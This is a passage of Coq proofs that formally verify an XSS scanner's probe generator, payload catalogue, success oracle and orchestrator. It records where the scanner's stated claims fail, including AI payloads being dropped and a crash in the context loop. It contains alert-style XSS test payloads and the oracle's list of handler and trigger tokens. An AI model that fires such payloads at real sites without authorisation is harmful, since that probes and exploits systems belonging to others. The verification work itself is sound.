    unfold detect_all_in_order. simpl html. simpl probe.
    rewrite contains_empty. simpl negb. cbv iota.
    apply elem_of_run_detectors. exists _detect_json. split.
    - unfold detectors. apply elem_of_cons. by left.
    - unfold _detect_json. simpl content_type. rewrite Hjson.
      by apply elem_of_singleton. }
  split; [apply contains_empty |]. split; [exact Hin |].
  intros Hempty. rewrite Hempty in Hin. by apply not_elem_of_empty in Hin.
Qed.

Lemma empty_probe_defeats_the_short_circuit_witness :
  contains "json" (lower "application/JSON") = true /\
  JSON_VALUE ∈ classify "no marker here" EmptyString "application/JSON".
Proof.
  split; [reflexivity |].
  apply (empty_probe_defeats_the_short_circuit "no marker here" "application/JSON").
  reflexivity.
Defined.

(** The parser sees a body without markup as one text node. *)
Example json_body_is_one_text_node : Soup.strings json_body = Some [json_body].
Proof. reflexivity. Qed.

(** C5, as stated, fails: on the JSON body of the scenario the text-node
    detector reports its context too, so the result is not the singleton
    of the JSON context. *)
Lemma json_body_is_also_a_text_node :
  HTML_TEXT ∈ classify json_body json_probe "application/json" /\
  classify json_body json_probe "application/json" ≠ {[ JSON_VALUE ]}.
Proof.
  assert (classify json_body json_probe "application/json"
          = {[ JSON_VALUE; HTML_TEXT ]}) as -> by (vm_compute; reflexivity).
  split; [set_solver |].
  intros H. assert (HTML_TEXT ∈ ({[ JSON_VALUE ]} : gset InjectionContext)) as Hin
    by (rewrite <- H; set_solver).
  apply elem_of_singleton in Hin. discriminate.
Qed.

(** C5, amended.  Classifying the body of the scenario with content type
    [application/json] gives exactly the two contexts JSON value and HTML
    text node: the JSON detector fires on the content type, the text-node
    detector on the one text node the parser makes of the body, and no
    other detector fires. *)
Theorem json_scenario_contexts :
  classify json_body json_probe "application/json" = {[ JSON_VALUE; HTML_TEXT ]}
  /\ _detect_json (Analyzer.init json_body json_probe "application/json") = {[ JSON_VALUE ]}
  /\ _detect_text_node (Analyzer.init json_body json_probe "application/json") = {[ HTML_TEXT ]}.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** The probe generator *)

Lemma randbelow_eq (n : nat) (w : World) :
  randbelow n w = (Ok (rng w 0 mod n), after_draw w).
Proof. reflexivity. Qed.

(** Drawing [k] elements from a population that is not empty succeeds, and
    gives [k] members of the population; only the random source moves. *)
Lemma choices_total {A} (population : list A) (k : nat) (w : World) :
  population ≠ [] ->
  exists picked w',
    choices population k w = (Ok picked, w') /\
    List.length picked = k /\
    Forall (fun x => x ∈ population) picked /\
    same_but_rng w w'.
Proof.
  intros Hne. revert w. induction k as [|k IH]; intros w.
  - exists [], w. repeat split. constructor.
  - assert (rng w 0 mod List.length population < List.length population)%nat as Hlt.
    { apply Nat.mod_upper_bound. destruct population; [done | simpl; lia]. }
    destruct (lookup_lt_is_Some_2 _ _ Hlt) as [x Hx].
    destruct (IH (after_draw w)) as (rest & w' & Hrest & Hlen & Hall & Hsame).
    exists (x :: rest), w'. split; [| split; [| split]].
    + cbn [choices]. unfold mbind, M_bind, bind. rewrite randbelow_eq, Hx.
      fold (@choices A). rewrite Hrest. reflexivity.
    + simpl. by rewrite Hlen.
    + constructor; [| done]. by eapply list_elem_of_lookup_2.
    + exact Hsame.
Qed.

(** The [i]-th element drawn by [choices] is picked by the [i]-th number
    of the random source. *)
Lemma choices_lookup {A} (population : list A) (k : nat) (w w' : World)
    (picked : list A) (i : nat) :
  choices population k w = (Ok picked, w') ->
  (i < k)%nat ->
  picked !! i = population !! (rng w i mod List.length population)%nat.
Proof.
  revert w picked i. induction k as [| k IH]; intros w picked i H Hi; [lia |].
  cbn [choices] in H. unfold mbind at 1 in H. unfold M_bind, bind in H.
  rewrite randbelow_eq in H.
  destruct (population !! (rng w 0 mod List.length population)%nat) as [x |] eqn:Hx;
    [| done].
  unfold mbind, M_bind, bind in H. fold (@choices A) in H.
  destruct (choices population k (after_draw w)) as [[rest | e] w1] eqn:Hrest; [| done].
  injection H as <- <-.
  destruct i as [| i]; [done |].
  simpl. apply (IH _ _ i) in Hrest; [| lia]. exact Hrest.
Qed.

(** Drawing [k] elements takes [k] numbers from the random source. *)
Lemma choices_rng {A} (population : list A) (k : nat) (w w' : World)
    (picked : list A) :
  choices population k w = (Ok picked, w') ->
  forall i, rng w' i = rng w (k + i)%nat.
Proof.
  revert w picked. induction k as [| k IH]; intros w picked H i.
  - injection H as <- <-. reflexivity.
  - cbn [choices] in H. unfold mbind at 1 in H. unfold M_bind, bind in H.
    rewrite randbelow_eq in H.
    destruct (population !! (rng w 0 mod List.length population)%nat) as [x |] eqn:Hx;
      [| done].
    unfold mbind, M_bind, bind in H. fold (@choices A) in H.
    destruct (choices population k (after_draw w)) as [[rest | e] w1] eqn:Hrest; [| done].
    injection H as <- <-.
    rewrite (IH _ _ Hrest i). reflexivity.
Qed.

(** C9.  [_generate_probe] never raises: in every state it returns the
    prefix [XSS_PROBE_] followed by a suffix of twelve characters (so at
    least twelve), each of which is one of the 36 upper-case letters and
    digits.  The suffix is drawn from the random source: its [i]-th
    character is the letter of the alphabet at the index the [i]-th
    number of the source gives, so that the twelve numbers decide the
    probe; the call uses up these twelve numbers and has no other
    effect. *)
Theorem generate_probe_succeeds (w : World) :
  exists (suffix : list ascii) (w' : World),
    _generate_probe w = (Ok ("XSS_PROBE_" +:+ string_of_list_ascii suffix), w') /\
    List.length suffix = 12%nat /\
    (12 <= String.length (string_of_list_ascii suffix))%nat /\
    Forall (fun c => c ∈ probe_alphabet) suffix /\
    List.length probe_alphabet = 36%nat /\
    NoDup probe_alphabet /\
    (forall i, (i < 12)%nat ->
       suffix !! i = probe_alphabet !! (rng w i mod 36)%nat) /\
    (forall i, rng w' i = rng w (12 + i)%nat) /\
    same_but_rng w w'.
Proof.
  destruct (choices_total probe_alphabet 12 w) as (suffix & w' & Hc & Hlen & Hall & Hsame);
    [discriminate |].
  exists suffix, w'.
  split; [| split; [| split; [| split; [| split; [| split; [| split; [| split]]]]]]].
  - unfold _generate_probe, mbind, M_bind, bind. by rewrite Hc.
  - exact Hlen.
  - assert (String.length (string_of_list_ascii suffix) = List.length suffix) as ->.
    { clear. induction suffix; simpl; congruence. }
    lia.
  - exact Hall.
  - reflexivity.
  - apply (bool_decide_unpack (NoDup probe_alphabet)). vm_compute. exact I.
  - intros i Hi. exact (choices_lookup _ _ _ _ _ _ Hc Hi).
  - exact (choices_rng _ _ _ _ _ Hc).
  - exact Hsame.
Qed.

(** With the source that counts 0, 1, 2, ... the probe ends in the first
    twelve letters, and the source goes on at 12. *)
Example probe_of_the_counting_source :
  (_generate_probe counting_world).1 = Ok "XSS_PROBE_ABCDEFGHIJKL" /\
  rng (_generate_probe counting_world).2 0 = 12%nat.
Proof. split; vm_compute; reflexivity. Qed.

(** ** The payload catalog *)

Lemma append_empty_r (s : string) : s +:+ EmptyString = s.
Proof.
  induction s as [|c s IH]; [reflexivity |].
  change (String c (s +:+ EmptyString) = String c s). by rewrite IH.
Qed.

(** The template methods do nothing but fill the holes. *)
Lemma payload_map_templates (context : InjectionContext) (trigger : string) :
  payload_map context trigger = map (fill trigger) (templates context).
Proof.
  destruct context; unfold fill; simpl; try reflexivity.
  by rewrite append_empty_r.
Qed.

Lemma templates_between_3_and_7 (context : InjectionContext) :
  (3 <= List.length (templates context) <= 7)%nat.
Proof. destruct context; simpl; lia. Qed.

(** Every fixed payload of a context embeds the trigger it was built
    with. *)
Lemma payload_map_embeds_trigger (context : InjectionContext) (trigger payload : string) :
  payload ∈ payload_map context trigger -> contains trigger payload = true.
Proof.
  rewrite payload_map_templates. intros H.
  apply list_elem_of_fmap in H as ([pre post] & -> & _).
  apply contains_infix.
Qed.

Lemma traditional_payloads_embed_trigger (context : PyVal) (trigger payload : string) :
  payload ∈ traditional_payloads context trigger -> contains trigger payload = true.
Proof.
  unfold traditional_payloads.
  destruct context as [s | c |]; simpl; intros H;
    try (apply list_elem_of_singleton in H as ->;
         apply (contains_infix trigger "<script>" "</script>")).
  by apply payload_map_embeds_trigger in H.
Qed.

(** The model answers with five payloads at most. *)
Lemma extract_payloads_at_most_5 (response_text : string) :
  (List.length (extract_payloads response_text) <= 5)%nat.
Proof. unfold extract_payloads. rewrite length_take. lia. Qed.

Lemma generate_ai_payloads_at_most_5 (cls : PayloadGenerator)
    (param_name context : PyVal) (html_snippet response_snippet : string) :
  (List.length (generate_ai_payloads cls param_name context html_snippet response_snippet)
   <= 5)%nat.
Proof.
  unfold generate_ai_payloads.
  destruct (gemini_enabled cls); simpl; [| lia].
  destruct (gemini_model cls) as [model |]; simpl; [| lia].
  destruct (value_of context); simpl; [| lia].
  destruct (model _) as [[| ? ?] |]; simpl; try lia.
  apply extract_payloads_at_most_5.
Qed.

(** A context handed over as text is no enumeration member: the model is
    not asked, and there are no AI payloads. *)
Lemma generate_ai_payloads_text_context (cls : PayloadGenerator)
    (param_name : PyVal) (context_text html_snippet response_snippet : string) :
  generate_ai_payloads cls param_name (VStr context_text) html_snippet response_snippet = [].
Proof.
  unfold generate_ai_payloads.
  destruct (gemini_enabled cls); simpl; [| reflexivity].
  by destruct (gemini_model cls).
Qed.

Lemma choice_eq {A} (seq : list A) (w : World) (x : A) :
  seq !! (rng w 0 mod List.length seq)%nat = Some x ->
  choice seq w = (Ok x, after_draw w).
Proof.
  intros H. destruct seq as [| y seq]; [done |].
  unfold choice, mbind, M_bind, bind. by rewrite randbelow_eq, H.
Qed.

(** [get_trigger] draws one number and picks a trigger with it. *)
Lemma get_trigger_eq (w : World) :
  exists trigger,
    get_trigger w = (Ok trigger, after_draw w) /\
    JS_TRIGGERS !! (rng w 0 mod 6)%nat = Some trigger /\
    trigger ∈ JS_TRIGGERS.
Proof.
  assert (rng w 0 mod 6 < List.length JS_TRIGGERS)%nat as Hlt
    by (apply Nat.mod_upper_bound; discriminate).
  destruct (lookup_lt_is_Some_2 _ _ Hlt) as [trigger Ht].
  exists trigger. split; [| split; [done | by eapply list_elem_of_lookup_2]].
  by apply choice_eq.
Qed.

Lemma generate_eq (cls : PayloadGenerator) (context html_snippet : PyVal) (w : World) :
  exists trigger,
    JS_TRIGGERS !! (rng w 0 mod 6)%nat = Some trigger /\
    trigger ∈ JS_TRIGGERS /\
    generate cls context html_snippet w =
      (Ok (traditional_payloads context trigger ++
           generate_ai_payloads cls context html_snippet EmptyString EmptyString)%list,
       after_draw w).
Proof.
  destruct (get_trigger_eq w) as (trigger & Hg & Hl & Hin).
  exists trigger. split; [done | split; [done |]].
  unfold generate, mbind, M_bind, bind. by rewrite Hg.
Qed.

(** The list [generate] returns, whatever it is handed: the fixed
    templates of the context, between three and seven of them, with the
    trigger put in their holes and nothing else varying, or the one
    template [<script>{trigger}</script>] for a context that is not
    recognised; then what [generate_ai_payloads] gives for the arguments
    in the places [generate] puts them, five strings at most. *)
Lemma generate_layout (cls : PayloadGenerator) (context html_snippet : PyVal)
    (w : World) :
  exists (trigger : string) (ai_payloads : list string) (w' : World),
    generate cls context html_snippet w
      = (Ok (traditional_payloads context trigger ++ ai_payloads)%list, w') /\
    trigger ∈ JS_TRIGGERS /\
    ai_payloads = generate_ai_payloads cls context html_snippet EmptyString EmptyString /\
    (List.length ai_payloads <= 5)%nat /\
    match context with
    | VCtx c =>
        traditional_payloads context trigger = map (fill trigger) (templates c) /\
        (3 <= List.length (traditional_payloads context trigger) <= 7)%nat
    | _ =>
        traditional_payloads context trigger = [ "<script>" +:+ trigger +:+ "</script>" ]
    end.
Proof.
  destruct (generate_eq cls context html_snippet w) as (trigger & _ & Hin & Hg).
  exists trigger, (generate_ai_payloads cls context html_snippet EmptyString EmptyString),
    (after_draw w).
  split; [exact Hg |]. split; [exact Hin |]. split; [reflexivity |].
  split; [apply generate_ai_payloads_at_most_5 |].
  destruct context as [s | c |]; try reflexivity.
  unfold traditional_payloads. simpl payload_map_get. cbv iota beta.
  rewrite payload_map_templates. split; [reflexivity |].
  rewrite length_map. apply templates_between_3_and_7.
Qed.

(** C6 (the code departs from it).  The fixed part of the list is as
    claimed: for a recognised context the templates of that context,
    between three and seven, with the trigger in their holes, and for any
    other context the one template [<script>{trigger}</script>].  The AI
    part is not: [generate] hands [context] and [html_snippet] to
    [generate_ai_payloads] in the places of [param_name] and [context],
    so that for a snippet that is a text the model is never asked and
    the list ends with the fixed payloads, with the AI enabled or not.
    With a model that answers with two payloads, [generate] for the
    text-node context and the snippet [<p>x</p>] returns the seven fixed
    payloads and no more, whereas [generate_ai_payloads], called as its
    signature asks, gives the two payloads that were to follow them. *)
Theorem generate_drops_the_ai_payloads :
  (forall (cls : PayloadGenerator) (context : PyVal) (html_snippet : string)
          (w : World),
     exists trigger : string,
       trigger ∈ JS_TRIGGERS /\
       (generate cls context (VStr html_snippet) w).1
         = Ok (traditional_payloads context trigger) /\
       match context with
       | VCtx c =>
           traditional_payloads context trigger = map (fill trigger) (templates c) /\
           (3 <= List.length (traditional_payloads context trigger) <= 7)%nat
       | _ =>
           traditional_payloads context trigger
             = [ "<script>" +:+ trigger +:+ "</script>" ]
       end) /\
  gemini_enabled answering_ai = true /\
  generate_ai_payloads answering_ai (VStr "q") (VCtx HTML_TEXT)
      "<p>x</p>" "<body><p>x</p></body>"
    = [ "<svg onload=alert(1)>"; "<img src=x onerror=alert(1)>" ] /\
  (generate answering_ai (VCtx HTML_TEXT) (VStr "<p>x</p>") counting_world).1
    = Ok (_html_text_payloads "alert(1)") /\
  (generate answering_ai (VCtx HTML_TEXT) (VStr "<p>x</p>") counting_world).1
    <> Ok (_html_text_payloads "alert(1)"
           ++ [ "<svg onload=alert(1)>"; "<img src=x onerror=alert(1)>" ])%list.
Proof.
  split.
  { intros cls context html_snippet w.
    destruct (generate_eq cls context (VStr html_snippet) w) as (trigger & _ & Hin & Hg).
    rewrite generate_ai_payloads_text_context, app_nil_r in Hg.
    exists trigger. split; [exact Hin |]. split; [by rewrite Hg |].
    destruct context as [s | c |]; try reflexivity.
    unfold traditional_payloads. simpl payload_map_get. cbv iota beta.
    rewrite payload_map_templates. split; [reflexivity |].
    rewrite length_map. apply templates_between_3_and_7. }
  split; [reflexivity |].
  split; [vm_compute; reflexivity |].
  split; [vm_compute; reflexivity |].
  vm_compute. discriminate.
Qed.

(** *** The trigger *)

(** C3, as stated, fails: the trigger is drawn anew in every call of
    [generate], so the lists fetched for two contexts of one parameter,
    one call after the other, need not share a trigger.  Here the first
    list is built with [alert(1)] and the second with
    [alert(document.domain)]. *)
Lemma trigger_differs_between_contexts :
  exists (first second : list string) (w1 w2 : World),
    generate no_ai (VCtx HTML_TEXT) (VStr EmptyString) counting_world = (Ok first, w1) /\
    generate no_ai (VCtx ATTR_NAME) (VStr EmptyString) w1 = (Ok second, w2) /\
    ~ share_a_trigger (first ++ second)%list.
Proof.
  eexists _, _, _, _. split; [vm_compute; reflexivity |].
  split; [vm_compute; reflexivity |].
  intros (trigger & Hin & Hall).
  assert (H1 := Hall "<script>alert(1)</script>").
  assert (H2 := Hall " onload=alert(document.domain) ").
  unfold JS_TRIGGERS in Hin.
  repeat (apply elem_of_cons in Hin as [-> | Hin]);
    try (by apply not_elem_of_nil in Hin);
    first [ (assert (false = true) as Hf by (apply H2; set_solver); discriminate)
          | (assert (false = true) as Hf by (apply H1; set_solver); discriminate) ].
Qed.

(** C3, amended.  The trigger is chosen once per call of [generate], that
    is once per payload list: a call draws one number from the random
    source, takes the trigger at that index of [JS_TRIGGERS], and every
    payload of the list it returns embeds that trigger. *)
Theorem trigger_is_drawn_once_per_generate (cls : PayloadGenerator)
    (context : PyVal) (html_snippet : string) (w : World) :
  exists (trigger : string) (payloads : list string),
    generate cls context (VStr html_snippet) w = (Ok payloads, after_draw w) /\
    JS_TRIGGERS !! (rng w 0 mod 6)%nat = Some trigger /\
    trigger ∈ JS_TRIGGERS /\
    payloads = traditional_payloads context trigger /\
    Forall (fun payload => contains trigger payload = true) payloads.
Proof.
  destruct (generate_eq cls context (VStr html_snippet) w) as (trigger & Hl & Hin & Hg).
  rewrite generate_ai_payloads_text_context, app_nil_r in Hg.
  exists trigger, (traditional_payloads context trigger).
  repeat split; try done.
  apply Forall_forall. intros payload Hp.
  by eapply traditional_payloads_embed_trigger.
Qed.

(** ** The request executor and the success oracle *)

Lemma send_request_replied (self : XSSEngine) (params : gmap string string)
    (w : World) (response : Response) :
  network self (sent w) (request_of self params) = Replied response ->
  _send_request self params w = (Ok (Some response), after_request self params w).
Proof.
  intros H. unfold _send_request, mbind, M_bind, bind. simpl. by rewrite H.
Qed.

Lemma send_request_failed (self : XSSEngine) (params : gmap string string)
    (w : World) (e : exn) :
  transport_failure e ->
  network self (sent w) (request_of self params) = Failed e ->
  _send_request self params w
    = (Ok None, (say (failure_line e) (after_request self params w)).2).
Proof.
  intros Hf H. unfold _send_request, mbind, M_bind, bind. simpl. rewrite H.
  by destruct Hf as [-> | [msg ->]].
Qed.

(** The tokens of the oracle are in lower case already. *)
Lemma triggers_lower : map lower triggers = triggers.
Proof. reflexivity. Qed.

Lemma existsb_triggers (response_lower : string) :
  existsb (fun trigger => contains (lower trigger) response_lower) triggers = true <->
  exists token, token ∈ triggers /\ contains token response_lower = true.
Proof.
  rewrite existsb_exists. split.
  - intros (t & Hin & Hc). exists (lower t). split; [| done].
    rewrite <- triggers_lower. apply list_elem_of_fmap. exists t.
    split; [done | by apply list_elem_of_In].
  - intros (t & Hin & Hc). exists t. split; [by apply list_elem_of_In |].
    assert (lower t = t) as ->; [| done].
    unfold triggers in Hin.
    repeat (apply elem_of_cons in Hin as [-> | Hin]); try reflexivity.
    by apply not_elem_of_nil in Hin.
Qed.

(** C4, as stated, fails: a response that holds the handler token
    [ontoggle=] and the payload as it was sent is not a success for the
    oracle, which knows four handler tokens only. *)
Lemma oracle_knows_four_handlers_only :
  let payload := "<details open ontoggle=go()>" in
  let body := "<p>" +:+ payload +:+ "</p>" in
  is_handler_token "ontoggle=" = true /\
  contains "ontoggle=" (lower body) = true /\
  contains payload body = true /\
  exploited body payload = false /\
  (_test_payload echo_engine "q" payload ∅ counting_world).1 = Ok None.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C4, amended.  For a response that arrived with a status that is no
    error status, [_test_payload] returns the URL of the response exactly
    when the body in lower case contains one of the nine tokens [alert(],
    [alert`], [confirm(], [prompt(], [print(], [onerror=], [onload=],
    [onfocus=], [onclick=], and moreover the payload occurs in the body as
    it was sent or the payload with its double quotes written [&quot;]
    does not occur in the body.  On the payload of the scenario this is a
    success when the response reflects it as it is, and none when only the
    encoded form is reflected. *)
Theorem oracle_decision (self : XSSEngine) (param payload : string)
    (base_params : gmap string string) (w : World) (response : Response) :
  network self (sent w) (request_of self (<[param := payload]> base_params))
    = Replied response ->
  ok response = true ->
  (_test_payload self param payload base_params w).1
    = Ok (if exploited (text response) payload then Some (url response) else None) /\
  (exploited (text response) payload = true <->
     (exists token, token ∈ triggers /\
        contains token (lower (text response)) = true) /\
     (contains payload (text response) = true \/
      contains (replace_char dq_char "&quot;" payload) (text response) = false)) /\
  exploited reflected_raw scenario_payload = true /\
  exploited reflected_encoded scenario_payload = false.
Proof.
  intros Hnet Hok. split; [| split; [| split; reflexivity]].
  - unfold _test_payload, mbind, M_bind, bind.
    rewrite (send_request_replied _ _ _ _ Hnet), Hok. simpl negb. cbv iota.
    by destruct (exploited _ _).
  - unfold exploited. rewrite andb_true_iff, orb_true_iff, negb_true_iff.
    by rewrite existsb_triggers.
Qed.

Lemma oracle_decision_witness :
  ok {| status_code := 200; text := reflected_raw;
        url := "http://target/?q=x"; header_content_type := None |} = true /\
  (_test_payload
     (Engine.init "http://target/" "GET" false
        (fun _ _ => Replied {| status_code := 200; text := reflected_raw;
                               url := "http://target/?q=x";
                               header_content_type := None |}))
     "q" scenario_payload ∅ counting_world).1
  = Ok (Some "http://target/?q=x").
Proof.
  split; [reflexivity |].
  apply (oracle_decision
           (Engine.init "http://target/" "GET" false
              (fun _ _ => Replied {| status_code := 200; text := reflected_raw;
                                     url := "http://target/?q=x";
                                     header_content_type := None |}))
           "q" scenario_payload ∅ counting_world
           {| status_code := 200; text := reflected_raw;
              url := "http://target/?q=x"; header_content_type := None |});
    reflexivity.
Defined.

(** [_generate_probe] succeeds and moves the random source only. *)
Lemma generate_probe_total (w : World) :
  exists probe w', _generate_probe w = (Ok probe, w') /\ same_but_rng w w'.
Proof.
  destruct (choices_total probe_alphabet 12 w) as (suffix & w' & Hc & _ & _ & Hsame);
    [discriminate |].
  exists ("XSS_PROBE_" +:+ string_of_list_ascii suffix), w'. split; [| done].
  unfold _generate_probe, mbind, M_bind, bind. by rewrite Hc.
Qed.

(** C7.  A timeout and any other failure of the transport never leave
    [_send_request] as an exception: it returns [None] for both.  The
    callers take the missing response as a request without result and go
    on: when the probe request fails, [scan_parameter] returns 0 and
    records nothing; when a payload request fails, [_test_payload]
    returns [None] and the payload loop goes on with the payloads that
    are left. *)
Theorem transport_failures_are_absorbed (self : XSSEngine) (e : exn) :
  transport_failure e ->
  (forall params w,
     network self (sent w) (request_of self params) = Failed e ->
     (_send_request self params w).1 = Ok None) /\
  (forall cls param base_params w,
     (forall probe,
        network self (sent w) (request_of self (<[param := probe]> base_params))
          = Failed e) ->
     exists w', scan_parameter self cls param base_params w = (Ok 0%nat, w') /\
       findings_count w' = findings_count w /\
       reporter_findings w' = reporter_findings w) /\
  (forall param context base_params payload rest w,
     network self (sent w) (request_of self (<[param := payload]> base_params))
       = Failed e ->
     exists w1, _test_payload self param payload base_params w = (Ok None, w1) /\
       test_payloads self param context base_params (payload :: rest) w
         = test_payloads self param context base_params rest w1).
Proof.
  intros Hf. split; [| split].
  - intros params w Hnet. by rewrite (send_request_failed _ _ _ _ Hf Hnet).
  - intros cls param base_params w Hnet.
    unfold scan_parameter, _test_reflection, mbind, M_bind, bind, say.
    cbv beta iota.
    match goal with
    | |- context [_generate_probe ?w2] =>
        destruct (generate_probe_total w2) as (probe & w3 & Hp & Hs & _ & Hc & Hr)
    end.
    rewrite Hp. simpl in Hs, Hc, Hr.
    assert (network self (sent w3) (request_of self (<[param := probe]> base_params))
            = Failed e) as Hnet3 by (rewrite Hs; apply Hnet).
    rewrite (send_request_failed _ _ _ _ Hf Hnet3). simpl.
    eexists. split; [reflexivity |]. simpl. by rewrite Hc, Hr.
  - intros param context base_params payload rest w Hnet.
    eexists. split.
    + unfold _test_payload, mbind, M_bind, bind.
      rewrite (send_request_failed _ _ _ _ Hf Hnet). reflexivity.
    + cbn [test_payloads]. unfold mbind at 1. unfold M_bind, bind.
      unfold _test_payload, mbind, M_bind, bind.
      rewrite (send_request_failed _ _ _ _ Hf Hnet). reflexivity.
Qed.

Lemma transport_failures_are_absorbed_witness :
  transport_failure Timeout /\
  (scan_parameter dead_engine no_ai "q" {[ "q" := "1" ]} counting_world).1 = Ok 0%nat /\
  (test_payloads dead_engine "q" HTML_TEXT {[ "q" := "1" ]}
     ["<svg onload=alert(1)>"; "<script>alert(1)</script>"] counting_world).1 = Ok false.
Proof.
  split; [by left |].
  destruct (transport_failures_are_absorbed dead_engine Timeout (or_introl eq_refl))
    as (_ & Hscan & Hloop).
  split.
  - destruct (Hscan no_ai "q" {[ "q" := "1" ]} counting_world (fun _ => eq_refl))
      as (w' & -> & _). reflexivity.
  - destruct (Hloop "q" HTML_TEXT {[ "q" := "1" ]} "<svg onload=alert(1)>"
                ["<script>alert(1)</script>"] counting_world eq_refl)
      as (w1 & _ & ->).
    vm_compute. reflexivity.
Defined.

(** ** The orchestrator *)

(** The call of [generate] in the loop over the contexts names two
    parameters that [generate] does not have: the first iteration raises
    before the catalog is asked and before any payload is sent. *)
Lemma scan_contexts_raises (self : XSSEngine) (cls : PayloadGenerator)
    (param : string) (base_params : gmap string string)
    (html_snippet response_snippet : string)
    (context : InjectionContext) (rest : list InjectionContext)
    (vulnerabilities : nat) (w : World) :
  scan_contexts self cls param base_params html_snippet response_snippet
    (context :: rest) vulnerabilities w
  = (Raise unexpected_keyword, w).
Proof. reflexivity. Qed.

Lemma bind_say {B} (line : LogLine) (k : M B) (w : World) :
  (_ ← say line; k) w = k (say line w).2.
Proof. reflexivity. Qed.

Lemma say_contexts (contexts : list InjectionContext) (w : World) :
  exists w',
    foldr (fun ctx rest => _ ← say (ContextName (value ctx)); rest) (mret tt)
      contexts w = (Ok tt, w') /\
    same_but_log w w'.
Proof.
  revert w. induction contexts as [| c contexts IH]; intros w; simpl.
  - by exists w.
  - rewrite bind_say.
    destruct (IH (say (ContextName (value c)) w).2) as (w' & -> & Hs & Hc & Hr).
    exists w'. split; [done |]. simpl in *. done.
Qed.

Lemma bind_ok {A B} (m : M A) (f : A -> M B) (w w' : World) (a : A) :
  m w = (Ok a, w') -> (x ← m; f x) w = f a w'.
Proof. intros H. unfold mbind, M_bind, bind. by rewrite H. Qed.

Lemma bind_raise {A B} (m : M A) (f : A -> M B) (w w' : World) (e : exn) :
  m w = (Raise e, w') -> (x ← m; f x) w = (Raise e, w').
Proof. intros H. unfold mbind, M_bind, bind. by rewrite H. Qed.

(** [_send_request] adds its request to the requests sent, and leaves the
    findings alone. *)
Lemma send_request_sends_one (self : XSSEngine) (params : gmap string string)
    (w : World) :
  exists result w',
    _send_request self params w = (result, w') /\
    sent w' = (sent w ++ [request_of self params])%list /\
    findings_count w' = findings_count w /\
    reporter_findings w' = reporter_findings w.
Proof.
  unfold _send_request, mbind, M_bind, bind. simpl.
  destruct (network self (sent w) _) as [response | []]; simpl; eauto 10.
Qed.

(** [_test_reflection] sends the probe request and no other; its result,
    when there is one, holds a list of contexts that is not empty. *)
Lemma test_reflection_sends_one (self : XSSEngine) (param : string)
    (base_params : gmap string string) (w : World) :
  exists result w',
    _test_reflection self param base_params w = (result, w') /\
    List.length (sent w') = S (List.length (sent w)) /\
    findings_count w' = findings_count w /\
    reporter_findings w' = reporter_findings w /\
    (result = Ok None \/
     (exists probe response context rest html_snippet response_snippet,
        result = Ok (Some (probe, response, context :: rest, html_snippet,
                           response_snippet))) \/
     exists e, result = Raise e).
Proof.
  unfold _test_reflection.
  destruct (generate_probe_total w) as (probe & w1 & Hp & Hs & _ & Hc & Hr).
  rewrite (bind_ok _ _ _ _ _ Hp).
  destruct (send_request_sends_one self (<[param := probe]> base_params) w1)
    as (result & w2 & Hsend & Hs2 & Hc2 & Hr2).
  assert (List.length (sent w2) = S (List.length (sent w))) as Hlen
    by (rewrite Hs2, length_app, Hs; simpl; lia).
  destruct result as [[response |] | e].
  - rewrite (bind_ok _ _ _ _ _ Hsend).
    destruct (negb (ok response));
      [exists (Ok None), w2; repeat split; auto; congruence |].
    destruct (negb (contains probe (text response)));
      [exists (Ok None), w2; repeat split; auto; congruence |].
    destruct (elements _) as [| context rest];
      [exists (Ok None), w2; repeat split; auto; congruence |].
    eexists _, w2. split; [reflexivity |].
    repeat split; try congruence. right. left. eauto 10.
  - rewrite (bind_ok _ _ _ _ _ Hsend).
    exists (Ok None), w2. repeat split; auto; congruence.
  - rewrite (bind_raise _ _ _ _ _ Hsend).
    exists (Raise e), w2. repeat split; eauto; congruence.
Qed.

(** Whatever the server answers, [scan_parameter] sends the probe request
    and no other, and records no finding: it returns 0 when the probe is
    not reflected, and it raises when it is. *)
Lemma scan_parameter_records_nothing (self : XSSEngine) (cls : PayloadGenerator)
    (param : string) (base_params : gmap string string) (w : World) :
  exists result w',
    scan_parameter self cls param base_params w = (result, w') /\
    List.length (sent w') = S (List.length (sent w)) /\
    findings_count w' = findings_count w /\
    reporter_findings w' = reporter_findings w /\
    (result = Ok 0%nat \/ exists e, result = Raise e).
Proof.
  unfold scan_parameter. rewrite !bind_say.
  destruct (test_reflection_sends_one self param base_params
              (say InjectingProbe (say (TestingParameter param) w).2).2)
    as (result & w1 & Hrefl & Hs & Hc & Hr & Hcases).
  simpl in Hs, Hc, Hr.
  destruct Hcases as [-> | [(probe & response & context & rest & hs & rs & ->) | [e ->]]].
  - rewrite (bind_ok _ _ _ _ _ Hrefl), bind_say.
    eexists _, _. split; [reflexivity |]. simpl. auto.
  - rewrite (bind_ok _ _ _ _ _ Hrefl), bind_say.
    destruct (say_contexts (context :: rest) (say (ReflectedIn (List.length (context :: rest))) w1).2)
      as (w2 & Hsay & Hs2 & Hc2 & Hr2).
    rewrite (bind_ok _ _ _ _ _ Hsay). simpl in Hs2, Hc2, Hr2.
    destruct (gemini_enabled cls); simpl when.
    + rewrite bind_say.
      erewrite bind_raise by apply scan_contexts_raises.
      eexists _, _. split; [reflexivity |]. simpl.
      rewrite Hs2, Hc2, Hr2. eauto 10.
    + erewrite (bind_ok (ret tt)) by reflexivity.
      erewrite bind_raise by apply scan_contexts_raises.
      eexists _, _. split; [reflexivity |].
      rewrite Hs2, Hc2, Hr2. eauto 10.
  - rewrite (bind_raise _ _ _ _ _ Hrefl).
    eexists _, _. split; [reflexivity |]. eauto 10.
Qed.

(** [_test_payload] sends the request of its payload, and leaves the
    findings alone. *)
Lemma test_payload_sends_one (self : XSSEngine) (param payload : string)
    (base_params : gmap string string) (w : World) :
  exists result w',
    _test_payload self param payload base_params w = (result, w') /\
    sent w' = (sent w ++ [request_of self (<[param := payload]> base_params)])%list /\
    findings_count w' = findings_count w /\
    reporter_findings w' = reporter_findings w.
Proof.
  unfold _test_payload.
  destruct (send_request_sends_one self (<[param := payload]> base_params) w)
    as (sres & w1 & Hsend & Hs & Hc & Hr).
  destruct sres as [[response |] | e].
  - rewrite (bind_ok _ _ _ _ _ Hsend).
    destruct (negb (ok response)); [by exists (Ok None), w1 |].
    destruct (exploited _ _); eexists _, w1; (split; [reflexivity | done]).
  - rewrite (bind_ok _ _ _ _ _ Hsend). by exists (Ok None), w1.
  - rewrite (bind_raise _ _ _ _ _ Hsend). by exists (Raise e), w1.
Qed.

